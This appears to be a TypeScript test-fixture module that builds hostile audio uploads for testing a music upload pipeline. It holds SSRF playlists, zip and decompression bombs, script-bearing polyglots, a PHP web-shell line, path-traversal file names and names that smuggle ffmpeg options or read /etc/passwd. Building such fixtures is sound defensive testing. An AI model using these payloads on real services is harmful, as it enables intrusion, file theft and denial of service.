import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import { waveOf } from "../../providers/audio/testing/handmade.ts";

/** A file that somebody uploads who means harm, or whose disk did: made by code, so that no such file lies in our own store. */
export interface BadFile {
  what: string;
  name: string;
  bytes: Buffer;
}

/** Where crafted files point: a file on this machine, and an address on which somebody listens. */
export interface Canary {
  file: string;
  url: string;
}

/** Good files in every format, as musicians export them. */
export type Songs = Record<"wav" | "flac" | "mp3" | "m4a" | "ogg" | "opus", Buffer>;

const latin = (text: string) => Buffer.from(text, "latin1");
const times = (text: string, count: number) => Buffer.from(text.repeat(count));
const SCRIPT = "<html><body><script>fetch('/stolen')</script></body></html>";

export function corpus(songs: Songs, canary: Canary): BadFile[] {
  const file = (what: string, name: string, ...parts: (Buffer | string)[]): BadFile => ({
    what,
    name,
    bytes: Buffer.concat(parts.map((part) => (typeof part === "string" ? latin(part) : part))),
  });
  const { wav, flac, mp3, m4a, ogg, opus } = songs;
  return [
    ...polyglots(songs, file),
    file(
      "an HLS playlist of a file here",
      "song.mp3",
      `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://${canary.file}\n#EXT-X-ENDLIST\n`,
    ),
    file(
      "an HLS playlist of an address",
      "song.m4a",
      `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${canary.url}/a.ts\n#EXT-X-ENDLIST\n`,
    ),
    file(
      "an HLS playlist whose key is elsewhere",
      "song.ogg",
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${canary.url}/key"\n#EXTINF:9,\na.ts\n`,
    ),
    file("a PLS playlist", "song.mp3", `[playlist]\nFile1=${canary.url}/song.mp3\nNumberOfEntries=1\n`),
    file("a concat script", "song.wav", `ffconcat version 1.0\nfile '${canary.file}'\n`),
    file("a DASH manifest", "song.flac", `<?xml version="1.0"?><MPD><BaseURL>${canary.url}/</BaseURL></MPD>`),
    file("a film that points to another file", "song.m4a", withExternalData(m4a, canary)),
    file("a zip bomb", "song.wav", zipBomb()),
    file(
      "a gzip stream",
      "song.flac",
      "\x1f\x8b\x08\0\0\0\0\0\0\x03",
      deflateRawSync(Buffer.alloc(1_000_000)),
    ),
    file(
      "an EBML bomb",
      "song.mp3",
      "\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xfe",
      times("\x42\x86\x81\x01", 5_000),
    ),
    file("a PNG of 65,535 pixels squared", "song.mp3", hugePng()),
    file(
      "a JPEG of 65,535 pixels squared",
      "song.wav",
      "\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x22\0\x02\x11\x01\x03\x11\x01",
      Buffer.alloc(4_096),
    ),
    file(
      "an SVG with a script",
      "song.mp3",
      `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary.url}')"/>`,
    ),
    file("a tag that says it is 256 MB", "song.mp3", "ID3\x04\0\0\x7f\x7f\x7f\x7f", mp3),
    file(
      "tag behind tag behind tag",
      "song.mp3",
      ...Array.from({ length: 40 }, () => "ID3\x03\0\0\0\0\0\0"),
      mp3,
    ),
    file(
      "a picture in a tag that is longer than its tag",
      "song.mp3",
      "ID3\x03\0\0\0\0\x10\0APIC\x7f\xff\xff\xff\0\0",
      Buffer.alloc(2_038),
      mp3.subarray(0, 900),
    ),
    file("a FLAC that ends in the middle", "song.flac", flac.subarray(0, flac.length / 2)),
    file("a WAV that ends in the middle", "song.wav", wav.subarray(0, wav.length / 2)),
    file("an Ogg that ends in the middle", "song.ogg", ogg.subarray(0, ogg.length / 2)),
    file("an M4A that ends in the middle", "song.m4a", m4a.subarray(0, m4a.length / 2)),
    file("an Opus that ends in the middle", "song.opus", opus.subarray(0, opus.length / 2)),
    file("a WAV that promises four gigabytes", "song.wav", changed(wav, 40, 0xfffffff0)),
    file("a WAV at four billion hertz", "song.wav", changed(wav, 24, 0xffffffff)),
    file("a WAV at one hertz", "song.wav", changed(wav, 24, 1)),
    file("a WAV at no hertz", "song.wav", changed(wav, 24, 0)),
    file("a WAV of 65,535 channels", "song.wav", wav.subarray(0, 22), "\xff\xff", wav.subarray(24)),
    file("a WAV of no channels", "song.wav", wav.subarray(0, 22), "\0\0", wav.subarray(24)),
    file("a WAV whose format is a secret", "song.wav", wav.subarray(0, 20), "\x50\0", wav.subarray(22)),
    file(
      "a FLAC whose first block is longer than the file",
      "song.flac",
      "fLaC\0\xff\xff\xff",
      flac.subarray(8),
    ),
    file("an M4A whose box swallows everything", "song.m4a", changedBig(m4a, 0, 0x7fffffff)),
    file("an M4A whose box has no length", "song.m4a", changedBig(m4a, 0, 4)),
    file("one byte", "song.mp3", "\xff"),
    file("one sample", "song.wav", waveOf(new Int16Array(2), 44_100)),
    file("nothing but zeros", "song.mp3", Buffer.alloc(200_000)),
    file("a poem under a path", "../../../etc/cron.d/song.mp3", times("Roses are red. ", 500)),
    file("a poem under a path of Windows", "..\\..\\windows\\song.wav", times("Roses are red. ", 500)),
    file("a poem whose name ends twice", "song.mp3.html", times("<b>Roses</b> ", 500)),
    file("a poem whose name runs backwards", "song\u202egpj.\u202cmp3", times("Roses are red. ", 500)),
    file("a poem whose name has an end inside", "song.mp3\0.html", times("Roses are red. ", 500)),
    file("a poem called like a device", "/dev/stdin", times("Roses are red. ", 500)),
    file("a poem called like a protocol", "concat:/etc/passwd|song.mp3", times("Roses are red. ", 500)),
    file("a poem called like an option", "-i /etc/passwd -f mp3", times("Roses are red. ", 500)),
    file("a link", "song.wav", canary.file),
  ];
}

function polyglots(
  { wav, mp3, flac, ogg }: Songs,
  file: (what: string, name: string, ...parts: (Buffer | string)[]) => BadFile,
): BadFile[] {
  const zip = zipOf("song.html", Buffer.from(SCRIPT));
  return [
    file("a song that is also a zip", "song.mp3", mp3, zip),
    file("a zip that is also a song", "song.mp3", zip, mp3),
    file("a song with a page behind it", "song.wav", wav, SCRIPT),
    file("a page with a song behind it", "song.wav", SCRIPT, wav),
    file(
      "a WAV with a page in a chunk",
      "song.wav",
      wav.subarray(0, 12),
      chunk("junk", latin(SCRIPT)),
      wav.subarray(12),
    ),
    file("a tag that holds a page", "song.mp3", id3With(SCRIPT), mp3),
    file("a GIF that is also a script", "song.mp3", "GIF89a/*", Buffer.alloc(20), "*/=1;alert(1)//", mp3),
    file("a PDF with a song behind it", "song.mp3", "%PDF-1.7\n1 0 obj\n", mp3),
    file("a song with a program behind it", "song.flac", flac, "<?php system($_GET['c']);"),
    file("a shell script with a song behind it", "song.ogg", "#!/bin/sh\nexit 0\n", ogg),
  ];
}

function chunk(name: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.write(name, 0, "latin1");
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body, Buffer.alloc(body.length % 2)]);
}

/** A comment frame in an ID3v2.3 tag of its right length. */
function id3With(text: string): Buffer {
  const frame = Buffer.concat([
    latin("COMM"),
    Buffer.from([0, 0, 0, text.length + 5]),
    latin("\0\0\0eng\0"),
    latin(text),
  ]);
  const size = Buffer.from([0, 0, frame.length >> 7, frame.length & 0x7f]);
  return Buffer.concat([latin("ID3\x03\0\0"), size, frame]);
}

function changed(bytes: Buffer, at: number, value: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(value, at);
  return copy;
}

function changedBig(bytes: Buffer, at: number, value: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32BE(value, at);
  return copy;
}

/** QuickTime may say that its sound lies in another file: a "dref" entry of kind "alis" or "url " that is not "here". */
function withExternalData(m4a: Buffer, canary: Canary): Buffer {
  const copy = Buffer.from(m4a);
  const entry = copy.indexOf(latin("url \0\0\0\x01"));
  if (entry < 0) throw new Error("The M4A has no data reference to change.");
  copy.writeUInt32BE(0, entry + 4);
  return Buffer.concat([copy, latin(canary.url)]);
}

/** Ten million zeros in a few kilobytes, with the directory at the end that makes it a zip. */
function zipBomb(): Buffer {
  return zipOf("song.wav", Buffer.alloc(10_000_000));
}

function zipOf(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content);
  const head = Buffer.alloc(30);
  head.write("PK\x03\x04", 0, "latin1");
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(crc32(content), 14);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(name.length, 26);
  const entry = Buffer.alloc(46);
  entry.write("PK\x01\x02", 0, "latin1");
  head.copy(entry, 10, 8, 30);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", 0, "latin1");
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length + name.length, 12);
  end.writeUInt32LE(head.length + name.length + packed.length, 16);
  return Buffer.concat([head, latin(name), packed, entry, latin(name), end]);
}

function hugePng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(65_535, 0);
  header.writeUInt32BE(65_535, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const part = (name: string, body: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(body.length);
    const named = Buffer.concat([latin(name), body]);
    const check = Buffer.alloc(4);
    check.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, check]);
  };
  return Buffer.concat([
    latin("\x89PNG\r\n\x1a\n"),
    part("IHDR", header),
    part("IDAT", deflateSync(Buffer.alloc(1_000))),
    part("IEND", Buffer.alloc(0)),
  ]);
}
